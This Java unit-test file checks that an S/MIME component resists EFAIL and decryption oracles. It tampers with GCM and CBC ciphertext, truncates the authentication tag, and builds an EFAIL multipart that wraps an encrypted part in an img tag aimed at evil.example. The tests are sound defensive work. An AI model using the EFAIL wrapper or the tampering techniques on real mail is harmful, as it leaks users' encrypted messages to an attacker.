package io.github.camelsmime;

import java.io.ByteArrayInputStream;
import java.util.Arrays;
import java.util.function.UnaryOperator;

import jakarta.mail.internet.MimeMessage;

import org.apache.camel.Exchange;
import org.bouncycastle.asn1.ASN1Encodable;
import org.bouncycastle.asn1.ASN1Encoding;
import org.bouncycastle.asn1.ASN1Integer;
import org.bouncycastle.asn1.ASN1Primitive;
import org.bouncycastle.asn1.DEROctetString;
import org.bouncycastle.asn1.DERSequence;
import org.bouncycastle.asn1.cms.AuthEnvelopedData;
import org.bouncycastle.asn1.cms.ContentInfo;
import org.bouncycastle.asn1.cms.EncryptedContentInfo;
import org.bouncycastle.asn1.cms.EnvelopedData;
import org.bouncycastle.asn1.cms.GCMParameters;
import org.bouncycastle.asn1.x509.AlgorithmIdentifier;
import org.junit.jupiter.api.Test;

import io.github.camelsmime.SpoofKit.Signer;

import static io.github.camelsmime.SpoofKit.cert;
import static io.github.camelsmime.SpoofKit.headers;
import static io.github.camelsmime.SpoofKit.multipart;
import static io.github.camelsmime.SpoofKit.pkcs7Entity;
import static io.github.camelsmime.SpoofKit.signedMessage;
import static io.github.camelsmime.SpoofKit.text;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * EFAIL (USENIX Security 2018) and oracle resistance: no plaintext leaves the component before it is authenticated,
 * unauthenticated CBC content needs a trusted signature inside it, encrypted parts are never merged into a message,
 * and every decryption failure reads the same.
 */
class DecryptionHardeningTest extends SmimeTestSupport {

    private static final String SECRET = "Hello Bob";
    private static final String GCM = "smime:encrypt?" + recipient("bob");
    private static final String CBC = GCM + "&encryptionAlgorithm=AES_256_CBC";
    private static final String UNWRAP = "smime:unwrap?" + trust() + "&" + decryptor("bob");

    private static SmimeDecryptionException decryptionFailed(Exception e) {
        assertThat(e).isInstanceOf(SmimeDecryptionException.class);
        assertThat(e.getMessage()).isEqualTo("Decryption failed");
        assertThat(((SmimeException) e).getReason()).isEqualTo("decryption-failed");
        assertThat(((SmimeException) e).getCheck()).isEqualTo("decryption-failed");
        return (SmimeDecryptionException) e;
    }

    // ---- AuthEnvelopedData: the tag decides before any plaintext is released ----

    @Test
    void tamperedAuthEnvelopedCiphertextReleasesNothing() throws Exception {
        String wire = bodyOf(send(GCM, bytes(MESSAGE)));
        String tampered = rewrite(wire, cms -> authEnveloped(cms, aed -> {
            EncryptedContentInfo eci = aed.getAuthEncryptedContentInfo();
            byte[] ciphertext = eci.getEncryptedContent().getOctets();
            ciphertext[3] ^= 1;
            return new AuthEnvelopedData(aed.getOriginatorInfo(), aed.getRecipientInfos(),
                    new EncryptedContentInfo(eci.getContentType(), eci.getContentEncryptionAlgorithm(),
                            new DEROctetString(ciphertext)), aed.getAuthAttrs(), aed.getMac(), aed.getUnauthAttrs());
        }));
        decryptionFailed(failure(UNWRAP, tampered));

        Exchange reported = send(UNWRAP + "&reportOnly=true", tampered);
        assertThat(reported.getMessage().getHeader(SmimeConstants.FAILURE_REASON)).isEqualTo("decryption-failed");
        assertThat(bodyOf(reported)).isEqualTo(tampered).doesNotContain(SECRET);
        reported.getMessage().getHeaders().values()
                .forEach(v -> assertThat(String.valueOf(v)).doesNotContain(SECRET));
    }

    /**
     * A tag truncated to 8 bytes is what GCM computes for an 8-byte tag, so the message is otherwise genuine; RFC 5084
     * allows only 12 to 16 bytes, and so do we (the decryptor's minimum, and Bouncy Castle's parameter parsing).
     */
    @Test
    void authEnvelopedDataWithAShortTagIsRefused() throws Exception {
        String wire = bodyOf(send(GCM, bytes(MESSAGE)));
        String truncated = rewrite(wire, cms -> authEnveloped(cms, aed -> {
            EncryptedContentInfo eci = aed.getAuthEncryptedContentInfo();
            AlgorithmIdentifier alg = eci.getContentEncryptionAlgorithm();
            GCMParameters gcm = GCMParameters.getInstance(alg.getParameters());
            // encoded by hand: BC's GCMParameters refuses to build an 8-byte ICV
            DERSequence shortParams = new DERSequence(new ASN1Encodable[] { new DEROctetString(gcm.getNonce()),
                new ASN1Integer(8) });
            return new AuthEnvelopedData(aed.getOriginatorInfo(), aed.getRecipientInfos(),
                    new EncryptedContentInfo(eci.getContentType(), new AlgorithmIdentifier(alg.getAlgorithm(),
                            shortParams), eci.getEncryptedContent()),
                    aed.getAuthAttrs(), new DEROctetString(Arrays.copyOf(aed.getMac().getOctets(), 8)),
                    aed.getUnauthAttrs());
        }));
        SmimeDecryptionException e = decryptionFailed(failure(UNWRAP, truncated));
        assertThat(causes(e)).containsIgnoringCase("ICV");
    }

    private static String causes(Throwable e) {
        StringBuilder sb = new StringBuilder();
        for (Throwable t = e; t != null; t = t.getCause()) {
            sb.append(t).append(" / ");
        }
        return sb.toString();
    }

    // ---- EnvelopedData (CBC): only with a trusted signature inside, or explicitly allowed ----

    @Test
    void unsignedCbcContentIsRefusedUnlessAllowed() {
        String wire = bodyOf(send(CBC, bytes(MESSAGE)));
        SmimeDecryptionException e = decryptionFailed(failure(UNWRAP, wire));
        assertThat(e.getCause()).hasMessageContaining("unauthenticated encryption (AES-256-CBC");
        decryptionFailed(failure("smime:decrypt?" + decryptor("bob"), wire));

        Exchange reported = send(UNWRAP + "&reportOnly=true", wire);
        assertThat(bodyOf(reported)).isEqualTo(wire).doesNotContain(SECRET);

        Exchange allowed = send(UNWRAP + "&allowUnauthenticatedEncryption=true&requireSigned=false", wire);
        assertThat(allowed.getMessage().getHeader(SmimeConstants.SIGNED, Boolean.class)).isFalse();
        assertThat(bodyOf(allowed)).contains(SECRET);
    }

    @Test
    void cbcContentSignedByATrustedSignerIsAccepted() {
        String wire = bodyOf(send("smime:sign-encrypt?" + signer("alice") + "&" + recipient("bob")
                + "&encryptionAlgorithm=AES_256_CBC", bytes(MESSAGE)));
        Exchange opened = send(UNWRAP, wire);
        assertThat(opened.getMessage().getHeader(SmimeConstants.TRUSTED, Boolean.class)).isTrue();
        assertThat(opened.getMessage().getHeader(SmimeConstants.CONTENT_ENCRYPTION_ALGORITHM))
                .isEqualTo("AES-256-CBC");
        assertThat(bodyOf(opened)).contains(SECRET);

        // decrypt alone checks the inner signature too, and leaves it in place for a later verify
        Exchange decrypted = send("smime:decrypt?" + trust() + "&" + decryptor("bob"), wire);
        assertThat(decrypted.getMessage().getHeader(SmimeConstants.LAYERS)).isEqualTo("encrypted,signed");
        assertThat(bodyOf(decrypted)).contains("application/pkcs7-signature");
        Exchange verified = send("smime:verify?" + trust(), bodyOf(decrypted));
        assertThat(verified.getMessage().getHeader(SmimeConstants.TRUSTED, Boolean.class)).isTrue();
    }

    /** An untrusted signature inside CBC is no vouching, and the sender learns only "Decryption failed". */
    @Test
    void cbcContentSignedByAnUntrustedSignerReadsAsADecryptionFailure() {
        Signer impostor = cert("alice").email("alice@example.com").selfSigned().signer();
        String signed = signedMessage("alice@example.com", impostor);
        String wire = bodyOf(send(CBC, bytes(signed)));
        SmimeDecryptionException e = decryptionFailed(failure(UNWRAP, wire));
        assertThat(e.getCause()).hasMessageContaining("not trusted");

        Exception allowed = failure(UNWRAP + "&allowUnauthenticatedEncryption=true", wire);
        assertThat(allowed).isInstanceOf(SmimeTrustException.class);
        assertThat(((SmimeException) allowed).getCheck()).isEqualTo("path");
    }

    /** A wrong key and a corrupted padding block must be indistinguishable to the sender (no padding oracle). */
    @Test
    void wrongKeyAndBadPaddingFailAlike() throws Exception {
        String wire = bodyOf(send(CBC, bytes(MESSAGE)));
        String badPadding = rewrite(wire, cms -> enveloped(cms, ed -> {
            EncryptedContentInfo eci = ed.getEncryptedContentInfo();
            byte[] c = eci.getEncryptedContent().getOctets();
            c[c.length - 17] ^= (byte) 0x80; // flips the pad byte of the last block
            return new EnvelopedData(ed.getOriginatorInfo(), ed.getRecipientInfos(), new EncryptedContentInfo(
                    eci.getContentType(), eci.getContentEncryptionAlgorithm(), new DEROctetString(c)),
                    ed.getUnprotectedAttrs());
        }));
        String allow = "&allowUnauthenticatedEncryption=true";
        Exception padding = failure("smime:decrypt?" + decryptor("bob") + allow, badPadding);
        // bob's certificate, so the recipient matches, but alice's private key
        Exception wrongKey = failure("smime:decrypt?decryptCertificate=" + PKI.path("bob.pem")
                + "&decryptPrivateKey=" + PKI.path("alice.key.pem") + allow, wire);
        decryptionFailed(padding);
        decryptionFailed(wrongKey);
        assertThat(padding.getClass()).isEqualTo(wrongKey.getClass());
    }

    // ---- EFAIL multipart: encrypted parts are never merged into the message ----

    @Test
    void encryptedPartsOfAnUnencryptedRootAreReportedNotDecrypted() throws Exception {
        String encryptedEntity = entityOf(bodyOf(send(GCM, bytes(MESSAGE))));
        String efail = headers("eve@evil.example") + multipart("alternative",
                text("<img src=\"http://evil.example/?"), encryptedEntity, text("\">"));

        Exchange unwrapped = send(UNWRAP + "&requireSigned=false", efail);
        assertThat(unwrapped.getMessage().getHeader(SmimeConstants.ENCRYPTED, Boolean.class)).isFalse();
        assertThat(unwrapped.getMessage().getHeader(SmimeConstants.ENCRYPTED_PARTS)).isEqualTo("2");
        assertThat(bodyOf(unwrapped)).isEqualTo(efail).doesNotContain(SECRET);

        Exception e = failure("smime:decrypt?" + decryptor("bob"), efail);
        assertThat(e).isInstanceOf(SmimeFormatException.class).hasMessageContaining("not encrypted")
                .hasMessageContaining("encrypted parts 2 are not decrypted");
        assertThat(((SmimeException) e).getCheck()).isEqualTo("not-encrypted");
    }

    // ---- CMS surgery ----

    private interface Surgery {
        byte[] apply(byte[] cms) throws Exception;
    }

    /** The message with its pkcs7-mime body replaced by the rewritten CMS. */
    private static String rewrite(String message, Surgery surgery) throws Exception {
        MimeMessage m = new MimeMessage(null, new ByteArrayInputStream(bytes(message)));
        byte[] cms = m.getInputStream().readAllBytes();
        return headers("alice@example.com") + pkcs7Entity("enveloped-data", surgery.apply(cms));
    }

    private static byte[] authEnveloped(byte[] cms, UnaryOperator<AuthEnvelopedData> change) throws Exception {
        ContentInfo ci = ContentInfo.getInstance(ASN1Primitive.fromByteArray(cms));
        return new ContentInfo(ci.getContentType(), change.apply(AuthEnvelopedData.getInstance(ci.getContent())))
                .getEncoded(ASN1Encoding.DER);
    }

    private static byte[] enveloped(byte[] cms, UnaryOperator<EnvelopedData> change) throws Exception {
        ContentInfo ci = ContentInfo.getInstance(ASN1Primitive.fromByteArray(cms));
        return new ContentInfo(ci.getContentType(), change.apply(EnvelopedData.getInstance(ci.getContent())))
                .getEncoded(ASN1Encoding.DER);
    }

    /** The Content-* headers and body of a message, as an entity to embed in another message. */
    static String entityOf(String message) {
        int end = message.indexOf("\r\n\r\n");
        StringBuilder headers = new StringBuilder();
        boolean keep = false;
        for (String line : message.substring(0, end).split("\r\n")) {
            if (!line.startsWith(" ") && !line.startsWith("\t")) {
                keep = line.toLowerCase(java.util.Locale.ROOT).startsWith("content-");
            }
            if (keep) {
                headers.append(line).append("\r\n");
            }
        }
        return headers + message.substring(end + 2);
    }
}
